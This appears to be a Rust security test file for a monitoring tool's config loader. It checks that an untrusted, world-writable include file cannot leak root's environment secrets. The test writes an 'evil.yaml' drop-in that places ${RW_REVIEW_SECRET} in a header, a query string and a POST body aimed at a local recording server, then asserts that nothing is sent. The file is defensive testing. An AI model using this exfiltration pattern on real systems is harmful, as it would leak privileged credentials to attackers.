//! Hostile inputs found in review: each test is the attack, and what must not happen.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::{Arc, Mutex};

use crate::common::{self, rw};

fn write(path: &Path, text: &str, mode: u32) {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).unwrap();
    }
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// A server that records every request head it reads and answers 200.
fn recording_server() -> (u16, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut buf = [0u8; 8192];
            let n = s.read(&mut buf).unwrap_or(0);
            log.lock()
                .unwrap()
                .push(String::from_utf8_lossy(&buf[..n]).into_owned());
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
        }
    });
    (port, seen)
}

/// As root, an `include:` names a directory its service's user can write (the README's own
/// `/srv/app/routewatch.yaml`). Whoever writes there must not get root's `${VAR}` secrets
/// (`/etc/routewatch/environment`) sent to a host of their choice: such a drop-in blocks
/// recovery, and its variables are not expanded either.
#[test]
fn an_untrusted_dropin_cannot_send_roots_environment_anywhere() {
    if !rustix::process::geteuid().is_root() {
        common::skip_outside_ci("the trust checks apply only when running as root");
        return;
    }
    let (port, seen) = recording_server();
    let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let cfg = dir.path().join("probes.yaml");
    let app = dir.path().join("app");
    write(
        &cfg,
        &format!("include: [ {}/*.yaml ]\ntargets: []\n", app.display()),
        0o644,
    );
    std::fs::create_dir_all(&app).unwrap();
    std::fs::set_permissions(&app, std::fs::Permissions::from_mode(0o777)).unwrap();
    write(
        &app.join("evil.yaml"),
        &format!(
            "targets:\n  - name: evil\n    base_url: http://127.0.0.1:{port}\n    headers: {{ X-Leak: \"${{RW_REVIEW_SECRET}}\" }}\n    routes: [ {{ path: \"/?k=${{RW_REVIEW_SECRET}}\", method: POST, body: \"${{RW_REVIEW_SECRET}}\" }} ]\n"
        ),
        0o666,
    );
    let o = rw()
        .args(["check", "--no-recover", "--config"])
        .arg(&cfg)
        .arg("--state-dir")
        .arg(dir.path().join("state"))
        .env("RW_REVIEW_SECRET", "root-only-s3cret")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&o.stderr);
    let got = seen.lock().unwrap().clone();
    assert!(
        got.iter().all(|r| !r.contains("root-only-s3cret")),
        "root's secret went to the drop-in writer's server: {got:?}\n{stderr}"
    );
    assert_eq!(o.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("evil.yaml") && stderr.contains("${RW_REVIEW_SECRET}"),
        "{stderr}"
    );
}
